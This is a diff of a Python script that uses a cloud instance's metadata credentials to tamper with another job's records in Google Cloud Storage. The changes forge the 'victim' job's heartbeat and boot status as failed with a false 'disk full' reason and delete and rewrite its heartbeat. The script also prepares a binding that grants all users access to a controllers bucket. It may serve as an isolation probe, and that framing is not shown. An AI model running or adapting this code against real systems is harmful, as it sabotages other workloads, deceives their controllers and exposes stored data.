@@ -11,7 +11,8 @@ import sys
 import urllib.error
 import urllib.parse
 import urllib.request
-from typing import Any
+from collections.abc import Mapping
+from hashlib import sha256
 
 _METADATA = "http://metadata.google.internal/computeMetadata/v1"
 _STORAGE = "https://storage.googleapis.com"
@@ -48,7 +49,7 @@ def main(
     def storage(method: str, path: str, body: object = None) -> tuple[int, bytes]:
         return ask(method, f"{_STORAGE}{path}", body, bearer)
 
-    def forge(what: str, name: str, content: dict[str, Any], metadata: dict[str, str]) -> None:
+    def forge(what: str, name: str, content: Mapping[str, str], metadata: Mapping[str, str]) -> None:
         quoted = urllib.parse.quote(name, safe="")
         tried[what], _ = storage(
             "POST", f"/upload/storage/v1/b/{checkpoints}/o?uploadType=media&name={quoted}", content
@@ -60,13 +61,17 @@ def main(
     tried["read the other's boot status"], about = storage("GET", status)
     boot = json.loads(storage("GET", f"{status}?alt=media")[1])
     instance = json.loads(about).get("metadata", {}).get("instance", "")
-    failed = {"state": "failed", "stage": "bundle", "instance": instance, "why": mark}
-    forge("forge its boot status", f"boot/{victim}/worker-0.json", {**boot, "state": "failed"}, failed)
-    word = f"words/{victim}/worker-0"
-    forge("forge its heartbeat", word, {"state": "failed", "why": mark}, failed)
+    # The worst that a controller can be told: of the job that it knows, by the boot that is the newest.
+    run = ask("GET", f"{_METADATA}/instance/attributes/tpu-run", headers=_FLAVOR)
+    command = sha256(run[1].strip() if run[0] == 200 else b"").hexdigest()[:12]
+    failed = {"state": "failed", "instance": instance, "why": mark}
+    word, says = f"words/{victim}/worker-0", {**failed, "disk": "full", "command": command}
+    forge("forge its heartbeat", word, says, says)
     quoted = urllib.parse.quote(word, safe="")
     tried["delete its heartbeat"], _ = storage("DELETE", f"/storage/v1/b/{checkpoints}/o/{quoted}")
-    forge("forge its heartbeat again", word, {"state": "failed", "why": mark}, failed)
+    forge("forge its heartbeat again", word, says, says)
+    boot |= {"state": "failed", "stage": "bundle"}
+    forge("forge its boot status", f"boot/{victim}/worker-0.json", boot, {**failed, "stage": "bundle"})
 
     upload = f"/upload/storage/v1/b/{controllers}/o?uploadType=media&name=state.json"
     opened = {"bindings": [{"role": "roles/storage.objectUser", "members": ["allUsers"]}]}
